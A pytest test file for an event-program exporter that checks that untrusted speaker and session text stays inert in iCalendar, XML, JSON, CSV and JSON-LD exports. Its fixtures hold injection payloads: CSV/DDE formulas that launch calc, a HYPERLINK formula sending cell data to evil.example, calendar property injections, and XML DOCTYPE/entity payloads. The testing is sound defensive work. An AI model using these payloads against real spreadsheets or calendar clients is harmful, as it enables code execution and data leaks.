"""What strangers write is text in every export: none of it becomes a property, an element, a key or a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import pytest
from cases import each
from defusedxml.ElementTree import fromstring
from icalendar import Calendar, Component
from tests.exports.conftest import REVISED, SITE, address
from tests.test_untrusted_text import ATTACKS, MARKDOWN, RIGHT_ADDRESSES, words

from sphinx_event_program.edition.opening import open_edition
from sphinx_event_program.exports import json_ld
from sphinx_event_program.exports.c3voc_json import schedule_json
from sphinx_event_program.exports.csv import session_table
from sphinx_event_program.exports.frab_xml import schedule_xml
from sphinx_event_program.exports.ical import Calendars
from sphinx_event_program.exports.release import Release
from sphinx_event_program.model.markdown import plain_text

#: Texts of one line that mean something to one of the formats.
LINES = ATTACKS | {
    'property': r'x\nATTACH:https://evil.example/pwned',
    'property after a line': 'x\r\nATTENDEE:mailto:pwned@evil.example',
    'end of the entry': 'x\nEND:VEVENT\nBEGIN:VALARM\nACTION:EMAIL',
    'fold': 'x\r\n BEGIN:VEVENT\r\n\tUID:pwned',
    'parameter': 'x;VALUE=URI:https://evil.example/pwned",;:\\',
    'caret': 'x^n^^^\'BEGIN:VEVENT"',
    'backslashes': '\\' * 151 + 'n' + '\\' * 150 + ';,:',
    'wide letters': '漢字🎉é' * 60,
    'joined letters': 'e' + '\u0301' * 200,
    'end of text': ']]></title><pwned/>]]&gt;',
    'declaration': '<?xml version="1.0"?><!DOCTYPE pwned><pwned/>',
    'processing': '<?pwned x?>&#0;&#x1b;&#xFFFE;',
    'attribute of XML': '"/><pwned x="\'',
    'key': '", "pwned": {"x": ["',
    'escape of JSON': '\\", \\u0022pwned\\u0022: 1',
    'formula': '=cmd|"/c calc"!A1',
    'formula in quotes': '"=1+1"',
    'formula with plus': '+1+1',
    'formula with minus': '-2+3+cmd|" /C calc"!A0',
    'formula with at': '@SUM(1+1)',
    'formula behind a space': ' =1+1',
    'formula after a tab': '\t=1+1',
    'wide formula': '＝1+1',
    'list': 'a; pwned; b (chair)',
}

#: Texts of several lines.
BLOCKS = {name: written for name, (written, _) in MARKDOWN.items()} | {
    'entry': 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:pwned\r\nSUMMARY:pwned',
    'entry in code': '```\nEND:VEVENT\r\nBEGIN:VEVENT\rUID:pwned\n```',
    'line ends of Unicode': 'x\u2028BEGIN:VEVENT\u2029UID:pwned',
    'controls by number': 'x&#12;&#x1c;&#x2028;&#8233;&#13;BEGIN:VEVENT&#10;UID:pwned &#xD800; &#1; &#xffff;',
    'end of text': 'a ]]> b\n\n```\n]]></abstract><pwned/>\n```',
    'entities': '&lt;pwned/&gt; &amp;lt; &pwned; &lol9;',
    'formula': '=HYPERLINK("https://evil.example/?"&A1)\n\n+x',
    'formula in a list': '- =1+1\n- @x',
    'row': 'a\r\nb,c,"d\n""e',
}


def _event() -> dict[str, Any]:
    everything = ' · '.join(LINES.values())
    return {
        'title': everything[:1900],
        'summary': everything[1900:3800],
        'description': '\n\n'.join(BLOCKS.values()),
        'kind': 'conference',
        'part_of': {'name': LINES['end of text'], 'url': RIGHT_ADDRESSES[0]},
        'start': '2025-06-14 00:00',
        'end': '2025-06-18 00:00',
        'timezone': 'Europe/Paris',
        'location': dict.fromkeys(('venue', 'address', 'city', 'country'), LINES['property after a line']),
        'online': {
            'platform': LINES['caret'],
            'url': RIGHT_ADDRESSES[5],
            'meeting_id': LINES['property'],
            'passcode': LINES['backslashes'],
            'audience': 'public',
        },
        'organizers': ['p0', 'p1'],
        'rooms': [{'id': f'r{index}', 'name': line} for index, line in enumerate(LINES.values())],
        'tracks': [{'id': f't{index}', 'name': line} for index, line in enumerate(LINES.values())],
        'url': RIGHT_ADDRESSES[0],
    }


def _people() -> dict[str, Any]:
    return {
        f'p{index}': {'name': line, 'position': line, 'affiliation': [line], 'links': {line: RIGHT_ADDRESSES[1]}}
        for index, line in enumerate(LINES.values())
    }


def _sessions() -> list[dict[str, Any]]:
    blocks = list(BLOCKS.values())
    return [
        {
            'id': f's{index}',
            'title': line,
            'subtitle': line,
            'abstract': blocks[index % len(blocks)],
            'duration': '10 min',
            'room': f'r{index}',
            'track': f't{index}',
            'people': [f'p{index}', {'person': 'p1', 'role': 'chair'}],
            'level': line,
            'tags': [line, line],
            'materials': [{'title': line, 'url': RIGHT_ADDRESSES[index % len(RIGHT_ADDRESSES)]}],
        }
        for index, line in enumerate(LINES.values())
    ]


@pytest.fixture(scope='module')
def release(tmp_path_factory: pytest.TempPathFactory) -> Release:
    """An event that strangers wrote."""
    folder: Path = tmp_path_factory.mktemp('strangers')
    for name, values in (('event', _event()), ('people', _people()), ('sessions', _sessions())):
        (folder / f'{name}.json').write_text(json.dumps(values), encoding='utf-8')
    edition, _ = open_edition(folder)
    assert edition is not None
    assert len(edition.program.sessions) == len(LINES)
    return Release(edition, SITE, address, REVISED)


def one_line(text: str) -> str:
    """A line as the reader of the data has it."""
    return ' '.join(text.split())


each_line = each('line', LINES)
each_block = each('block', BLOCKS)


def index_of(line: str) -> int:
    return list(LINES).index(line)


def sessions_with(block: str) -> list[int]:
    return list(range(list(BLOCKS).index(block), len(LINES), len(BLOCKS)))


# iCalendar -------------------------------------------------------------------------------------


@pytest.fixture(scope='module')
def written(release: Release) -> bytes:
    made = Calendars(release).of_event()
    assert made is not None
    return made


@pytest.fixture(scope='module')
def entries(written: bytes) -> list[Component]:
    calendar = Calendar.from_ical(written)
    assert [error for part in calendar.walk() for error in part.errors] == []
    return list(calendar.walk('VEVENT'))


#: All properties that an entry of ours may have.
PROPERTIES = words(
    'UID DTSTAMP DTSTART DTEND SUMMARY DESCRIPTION LOCATION CATEGORIES STATUS URL SEQUENCE LAST-MODIFIED CONFERENCE'
)


def test_calendar_has_the_sessions_and_nothing_that_a_text_made(release: Release, entries: list[Component]) -> None:
    expected = [f'{release.guid("session", f"s{index}")}@{release.host}' for index in range(len(LINES))]
    assert [entry['UID'] for entry in entries] == expected
    for entry in entries:
        assert set(entry) <= PROPERTIES
        assert entry.subcomponents == []


def test_calendar_consists_of_short_lines_of_known_names(written: bytes) -> None:
    assert written.endswith(b'END:VCALENDAR\r\n')
    for line in written.removesuffix(b'\r\n').split(b'\r\n'):
        assert len(line) <= 75
        assert not re.search(rb'[\x00-\x08\x0a-\x1f\x7f]', line)
        line.decode()
    unfolded = written.replace(b'\r\n ', b'').decode().removesuffix('\r\n')
    names = {re.split('[;:]', line, maxsplit=1)[0] for line in unfolded.split('\r\n')}
    frame = 'BEGIN END VERSION PRODID NAME X-WR-CALNAME X-WR-TIMEZONE SOURCE REFRESH-INTERVAL X-PUBLISHED-TTL'
    zone = 'TZID TZOFFSETFROM TZOFFSETTO TZNAME'
    assert names <= PROPERTIES | words(frame) | words(zone)
    # Some programs end a line wherever Python would.
    assert len(unfolded.splitlines()) == len(unfolded.split('\r\n'))


@each_line
def test_line_is_in_the_calendar_as_it_was_written(entries: list[Component], line: str) -> None:
    entry, text = entries[index_of(line)], one_line(LINES[line])
    assert entry['SUMMARY'] == text
    assert str(entry['LOCATION']).startswith(f'{text}, ')
    assert text in entry['DESCRIPTION']
    assert [str(category) for category in entry['CATEGORIES'].cats] == [text] * 3


@each_block
def test_block_is_in_the_calendar_as_text(entries: list[Component], block: str) -> None:
    for index in sessions_with(block):
        assert plain_text(BLOCKS[block]) in entries[index]['DESCRIPTION']


# XML and JSON ------------------------------------------------------------------------------------


@pytest.fixture(scope='module')
def events(release: Release) -> dict[str, Element]:
    """The events by their guid."""
    made = schedule_xml(release)
    assert made is not None
    # Refuses entities and declarations of document types.
    root = fromstring(made, forbid_dtd=True)
    assert {element.tag for element in root.iter()} <= words(
        'schedule generator url version conference title acronym start end days timeslot_duration base_url '
        'time_zone_name track day room event subtitle type date duration abstract language persons person '
        'links link'
    )
    return {event.attrib['guid']: event for event in root.iter('event')}


@pytest.fixture(scope='module')
def told(release: Release) -> dict[str, Any]:
    """The same in JSON."""
    made = schedule_json(release)
    assert made is not None
    days = json.loads(made)['schedule']['conference']['days']
    events = [event for day in days for room in day['rooms'].values() for event in room]
    assert len({frozenset(event) for event in events}) == 1
    return {event['guid']: event for event in events}


@each_line
def test_line_is_in_both_schedules_as_it_was_written(
    release: Release, events: dict[str, Element], told: dict[str, Any], line: str
) -> None:
    guid, text = str(release.guid('session', f's{index_of(line)}')), one_line(LINES[line])
    in_xml, in_json = events[guid], told[guid]
    for name in ('title', 'subtitle', 'room', 'track'):
        assert in_xml.findtext(name) == in_json[name] == text
    assert in_xml.findtext('persons/person') == in_json['persons'][0]['name'] == text
    assert in_xml.findtext('links/link') == in_json['links'][0]['title'] == text


@each_block
def test_block_is_in_both_schedules_as_text(
    release: Release, events: dict[str, Element], told: dict[str, Any], block: str
) -> None:
    for index in sessions_with(block):
        guid = str(release.guid('session', f's{index}'))
        assert events[guid].findtext('abstract') == told[guid]['abstract'] == plain_text(BLOCKS[block])
        assert not re.search('[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]', told[guid]['abstract'])


# CSV -------------------------------------------------------------------------------------------


@pytest.fixture(scope='module')
def rows(release: Release) -> list[dict[str, str]]:
    text = session_table(release).decode('utf-8-sig')
    read = list(csv.DictReader(io.StringIO(text, newline=''), strict=True))
    assert len(read) == len(LINES)
    return read


def test_no_cell_is_a_formula(rows: list[dict[str, str]]) -> None:
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if re.match(r'\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]', cell)] == []


@each_line
def test_line_is_in_the_table_as_it_was_written(rows: list[dict[str, str]], line: str) -> None:
    row, text = rows[index_of(line)], one_line(LINES[line])
    assert None not in row
    for name in ('title', 'subtitle', 'level'):
        assert row[name].removeprefix("'" if not text.startswith("'") else '') == text


@each_block
def test_block_is_in_the_table_as_it_was_written(rows: list[dict[str, str]], block: str) -> None:
    for index in sessions_with(block):
        assert rows[index]['abstract'] in (BLOCKS[block], f"'{BLOCKS[block]}")


# JSON-LD ---------------------------------------------------------------------------------------


def strings(value: Any) -> Iterator[str]:
    match value:
        case dict():
            yield from value
            for held in value.values():
                yield from strings(held)
        case list():
            for held in value:
                yield from strings(held)
        case str():
            yield value


@each_line
def test_line_is_told_to_search_engines_as_it_was_written(release: Release, line: str) -> None:
    made = json_ld.of_session(f's{index_of(line)}', release)
    assert made is not None
    # No browser finds the end of the script, or a comment, before its end.
    assert not set('<>&') & set(made)
    described = json.loads(made)
    assert described['name'] == one_line(LINES[line])
    assert described['performer'][0]['name'] == one_line(LINES[line])
    assert 'pwned' not in described


def test_event_is_told_to_search_engines_as_text(release: Release) -> None:
    made = json_ld.of_event(release)
    assert made is not None
    assert not set('<>&') & set(made)
    assert release.title in list(strings(json.loads(made)))


@pytest.mark.parametrize('site', RIGHT_ADDRESSES)
def test_address_of_the_site_is_an_address_and_no_more(released: Callable[..., Release], site: str) -> None:
    settings = {'site': site, 'address': lambda kind, ident: site}
    release = released(sessions='- {id: a, title: A}\n', settings=settings)
    (entry,) = Calendar.from_ical(Calendars(release).of_session('a') or b'').walk('VEVENT')
    assert entry['URL'] == site
    (event,) = fromstring(schedule_xml(release) or b'').iter('event')
    assert event.findtext('url') == site
    assert json.loads(json_ld.of_session('a', release) or '')['url'] == site
